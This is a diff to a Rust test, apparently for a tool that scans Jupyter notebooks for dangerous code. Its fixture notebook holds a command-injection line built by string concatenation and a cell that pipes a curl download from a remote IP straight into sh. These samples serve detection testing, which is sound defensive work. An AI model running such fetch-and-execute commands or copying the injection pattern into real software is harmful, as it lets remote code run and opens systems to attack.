@@ -80,7 +80,7 @@ mod tests {
             {"cell_type": "code", "source": ["import os\n", "os.system('ls ' + x)\n"]},
             {"cell_type": "code", "source": "!curl http://198.51.100.7/x | sh"}]}"#;
         let rules = RuleSet::standard();
-        let terms = Terms { limits: Limits::default(), rules: &rules };
+        let terms = Terms { limits: Limits::default(), rules: &rules, beside: &Default::default() };
         let judge = |text: &str| {
             let input = Input { path: "x.ipynb", bytes: text.as_bytes(), text: Some(text), kind: Kind::Notebook };
             Notebook.analyse(&input, terms)
